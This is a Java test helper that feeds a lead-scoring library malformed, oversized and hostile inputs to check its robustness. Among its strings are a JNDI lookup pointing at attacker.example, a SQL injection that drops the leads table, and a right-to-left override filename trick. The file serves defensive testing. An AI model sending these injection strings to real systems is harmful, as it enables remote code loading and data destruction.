package io.github.leadrules.robustness;

import io.github.leadrules.model.Company;
import io.github.leadrules.model.EngagementEvent;
import io.github.leadrules.model.Lead;

import java.lang.reflect.Constructor;
import java.lang.reflect.RecordComponent;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Bad input, as generators: the strings, numbers and dates that real forms, CRM exports and
 * attackers produce, and ways to put them into any field of a {@link Lead}, its {@link Company}
 * or its engagement events. Fields are found through the records' components, so a field added
 * to the model later is covered without touching this class.
 */
final class HostileValues {

    /** Strings nobody should send, each with a label for test names. */
    static final Map<String, String> STRINGS = strings();

    /** Numbers at and beyond the edges. */
    static final List<Integer> INTEGERS = List.of(-1, Integer.MIN_VALUE, Integer.MAX_VALUE, 0, -2_000_000_000);
    static final List<Long> LONGS = List.of(-1L, Long.MIN_VALUE, Long.MAX_VALUE, 0L);

    /** Impossible or extreme dates, relative to the tests' fixed "now". */
    static final Map<String, Instant> INSTANTS = Map.of(
            "Instant.MIN", Instant.MIN,
            "Instant.MAX", Instant.MAX,
            "the epoch", Instant.EPOCH,
            "year 1", Instant.parse("0001-01-01T00:00:00Z"),
            "year 9999", Instant.parse("9999-12-31T23:59:59Z"),
            "two days ahead", RealisticLeads.NOW.plus(Duration.ofDays(2)),
            "one nanosecond before now", RealisticLeads.NOW.minusNanos(1),
            "exactly now", RealisticLeads.NOW);

    private HostileValues() {
    }

    private static Map<String, String> strings() {
        Map<String, String> s = new java.util.LinkedHashMap<>();
        s.put("empty", "");
        s.put("blank", "   ");
        s.put("ideographic spaces", "\u3000\u3000");
        s.put("NUL", "taro\u0000yamada");
        s.put("bell and escape", "\u0007\u001B[31mred");
        s.put("line breaks", "line one\r\nline two");
        s.put("lone high surrogate", "abc\uD800");
        s.put("lone low surrogate", "\uDC00abc");
        s.put("right-to-left override", "\u202Egnp.exe");
        s.put("zero-width joiners", "sa\u200Bm\u200Dple\uFEFF");
        s.put("emoji sequence", "👩‍💻🇯🇵");
        s.put("full-width address", "ｔａｒｏ＠ｓａｍｐｌｅ－ｋｏｇｙｏ．ｃｏ．ｊｐ");
        s.put("half-width katakana", "ｻﾝﾌﾟﾙｺｳｷﾞｮｳ");
        s.put("enclosed and squared forms", "㈱㍿①Ⅻ");
        s.put("combining marks", "e" + "\u0301".repeat(500));
        s.put("NFKC-expanding ligatures", "\uFDFA".repeat(200));
        s.put("format string", "%s%n%d{}${jndi:ldap://attacker.example/a}");
        s.put("SQL", "'; DROP TABLE leads;--");
        s.put("two at signs", "taro@@sample-kogyo.co.jp");
        s.put("only an at sign", "@");
        s.put("IP-literal domain", "taro@[127.0.0.1]");
        s.put("single-label domain", "taro@localhost");
        s.put("internationalised domain", "taro@例え.テスト");
        s.put("bad punycode", "taro@xn--.xn--zz");
        s.put("overlong label", "taro@" + "a".repeat(64) + ".co.jp");
        s.put("overlong local part", "t".repeat(65) + "@sample-kogyo.co.jp");
        s.put("many dots", "....@....");
        s.put("huge ASCII (1 000 000 chars)", "a".repeat(1_000_000));
        s.put("huge Japanese (300 000 chars)", "株式会社サンプル".repeat(37_500));
        s.put("huge ligatures (100 000 chars)", "\uFDFA".repeat(100_000));
        return java.util.Collections.unmodifiableMap(s);
    }

    /** A valid, ordinary lead that every variant starts from. */
    static Lead baseLead() {
        return Lead.builder("L-HOSTILE")
                .contactName("山田 太郎")
                .email("taro.yamada@sample-kogyo.co.jp")
                .phone("03-1234-5678")
                .jobTitle("情報システム部 部長")
                .source("web-form")
                .inquiryType(io.github.leadrules.model.InquiryType.DEMO)
                .purchaseTimeframe(io.github.leadrules.model.PurchaseTimeframe.WITHIN_3_MONTHS)
                .submittedAt(RealisticLeads.NOW.minus(Duration.ofDays(2)))
                .engagement(EngagementEvent.caseStudyView(RealisticLeads.NOW.minus(Duration.ofDays(3)), "製造業", "導入事例"))
                .engagement(EngagementEvent.pricingPageVisit(RealisticLeads.NOW.minus(Duration.ofDays(1))))
                .company(Company.builder().name("サンプル工業株式会社").domain("sample-kogyo.co.jp").industry("製造業")
                        .employeeCount(1200).annualRevenue(5_000_000_000L).country("日本").build())
                .attribute("campaign", "spring-2026")
                .build();
    }

    /** One bad input: what it is, and the lead that carries it. */
    record Case(String label, Lead lead) {
        @Override
        public String toString() {
            return label;
        }
    }

    /**
     * Every field of the lead, its company and its first engagement event set, one at a time, to
     * every hostile value of its type, and to null.
     */
    static List<Case> everyFieldWithEveryHostileValue() {
        List<Case> cases = new ArrayList<>();
        Lead base = baseLead();
        for (RecordComponent c : Lead.class.getRecordComponents()) {
            for (Map.Entry<String, Object> v : valuesFor(c).entrySet()) {
                cases.add(new Case(c.getName() + " = " + v.getKey(), with(base, c.getName(), v.getValue())));
            }
        }
        for (RecordComponent c : Company.class.getRecordComponents()) {
            for (Map.Entry<String, Object> v : valuesFor(c).entrySet()) {
                Company company = with(base.company(), c.getName(), v.getValue());
                cases.add(new Case("company." + c.getName() + " = " + v.getKey(), base.toBuilder().company(company).build()));
            }
        }
        for (RecordComponent c : EngagementEvent.class.getRecordComponents()) {
            for (Map.Entry<String, Object> v : valuesFor(c).entrySet()) {
                List<EngagementEvent> events = new ArrayList<>(base.engagement());
                events.set(0, with(events.get(0), c.getName(), v.getValue()));
                cases.add(new Case("engagement[0]." + c.getName() + " = " + v.getKey(), with(base, "engagement", events)));
            }
        }
        for (Map.Entry<String, String> s : STRINGS.entrySet()) {
            Map<String, String> asKey = new HashMap<>();
            asKey.put(s.getValue(), "x");
            cases.add(new Case("attribute name = " + s.getKey(), with(base, "attributes", asKey)));
        }
        Map<String, String> nullKey = new HashMap<>();
        nullKey.put(null, "x");
        cases.add(new Case("attribute name = null", with(base, "attributes", nullKey)));
        List<EngagementEvent> withNull = new ArrayList<>(base.engagement());
        withNull.add(null);
        cases.add(new Case("engagement with a null event", with(base, "engagement", withNull)));
        cases.add(new Case("20 000 engagement events", with(base, "engagement",
                java.util.Collections.nCopies(20_000, base.engagement().get(1)))));
        Map<String, String> manyAttributes = new HashMap<>();
        for (int i = 0; i < 1_000; i++) {
            manyAttributes.put("a" + i, "v" + i);
        }
        cases.add(new Case("1 000 attributes", with(base, "attributes", manyAttributes)));
        return cases;
    }

    /** The hostile values for a component's type, null included, by label. */
    private static Map<String, Object> valuesFor(RecordComponent c) {
        Map<String, Object> values = new java.util.LinkedHashMap<>();
        values.put("null", null);
        Class<?> type = c.getType();
        if (type == String.class) {
            values.putAll(STRINGS);
        } else if (type == Instant.class) {
            values.putAll(INSTANTS);
        } else if (type == Integer.class) {
            INTEGERS.forEach(i -> values.put(String.valueOf(i), i));
        } else if (type == Long.class) {
            LONGS.forEach(l -> values.put(String.valueOf(l), l));
        } else if (type == Map.class) {
            Map<String, String> nullValue = new HashMap<>();
            nullValue.put("campaign", null);
            values.put("an attribute with a null value", nullValue);
            values.put("a huge attribute value", Map.of("campaign", "x".repeat(100_000)));
        }
        return values;
    }

    /** A random lead whose every field is drawn from ordinary and hostile values. */
    static Lead randomLead(long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        Lead lead = baseLead();
        List<String> strings = new ArrayList<>(STRINGS.values());
        for (RecordComponent c : Lead.class.getRecordComponents()) {
            if (random.nextInt(100) < 35) {
                lead = with(lead, c.getName(), randomValue(random, c, strings));
            }
        }
        Company company = lead.company() == null ? baseLead().company() : lead.company();
        for (RecordComponent c : Company.class.getRecordComponents()) {
            if (random.nextInt(100) < 35) {
                company = with(company, c.getName(), randomValue(random, c, strings));
            }
        }
        return lead.company() == null ? lead : lead.toBuilder().company(company).build();
    }

    private static Object randomValue(SplittableRandom random, RecordComponent c, List<String> strings) {
        if (random.nextInt(100) < 20) {
            return null;
        }
        Class<?> type = c.getType();
        if (type == String.class) {
            String s = strings.get(random.nextInt(strings.size()));
            return random.nextInt(100) < 30 && s.length() < 1_000 ? s + randomUnicode(random, 1 + random.nextInt(40)) : s;
        }
        if (type == Instant.class) {
            List<Instant> instants = new ArrayList<>(INSTANTS.values());
            return instants.get(random.nextInt(instants.size()));
        }
        if (type == Integer.class) {
            return INTEGERS.get(random.nextInt(INTEGERS.size()));
        }
        if (type == Long.class) {
            return LONGS.get(random.nextInt(LONGS.size()));
        }
        if (type.isEnum()) {
            Object[] constants = type.getEnumConstants();
            return constants[random.nextInt(constants.length)];
        }
        if (type == List.class) {
            List<EngagementEvent> events = new ArrayList<>();
            int n = random.nextInt(6);
            List<Instant> instants = new ArrayList<>(INSTANTS.values());
            for (int i = 0; i < n; i++) {
                events.add(random.nextInt(10) == 0 ? null : new EngagementEvent(
                        random.nextInt(10) == 0 ? null
                                : io.github.leadrules.model.EngagementType.values()[random.nextInt(6)],
                        random.nextInt(10) == 0 ? null : instants.get(random.nextInt(instants.size())),
                        randomUnicode(random, random.nextInt(20)),
                        random.nextBoolean() ? "製造業" : randomUnicode(random, random.nextInt(10))));
            }
            return events;
        }
        if (type == Map.class) {
            Map<String, String> attributes = new HashMap<>();
            attributes.put(random.nextBoolean() ? null : randomUnicode(random, 5), randomUnicode(random, 30));
            return attributes;
        }
        return null;
    }

    /** Code points from anywhere in Unicode: controls, surrogates as chars, private use, CJK, emoji. */
    static String randomUnicode(SplittableRandom random, int length) {
        StringBuilder sb = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            int pick = random.nextInt(100);
            if (pick < 10) {
                sb.append((char) random.nextInt(0x20));
            } else if (pick < 15) {
                sb.append((char) random.nextInt(0xD800, 0xE000));
            } else if (pick < 45) {
                sb.append((char) random.nextInt(0x20, 0x7F));
            } else if (pick < 70) {
                sb.append((char) random.nextInt(0x3000, 0xA000));
            } else if (pick < 80) {
                sb.append((char) random.nextInt(0xFF00, 0xFFF0));
            } else {
                sb.appendCodePoint(random.nextInt(0x80, Character.MAX_CODE_POINT + 1));
            }
        }
        return sb.toString();
    }

    /** A copy of the record with one component replaced, through its canonical constructor. */
    @SuppressWarnings("unchecked")
    static <R extends Record> R with(R record, String component, Object value) {
        try {
            RecordComponent[] components = record.getClass().getRecordComponents();
            Object[] args = new Object[components.length];
            Class<?>[] types = new Class<?>[components.length];
            for (int i = 0; i < components.length; i++) {
                types[i] = components[i].getType();
                args[i] = components[i].getName().equals(component) ? value : components[i].getAccessor().invoke(record);
            }
            if (Arrays.stream(components).noneMatch(c -> c.getName().equals(component))) {
                throw new IllegalArgumentException(record.getClass().getSimpleName() + " has no component " + component);
            }
            Constructor<R> constructor = (Constructor<R>) record.getClass().getDeclaredConstructor(types);
            return constructor.newInstance(args);
        } catch (ReflectiveOperationException e) {
            throw new IllegalStateException(e);
        }
    }
}
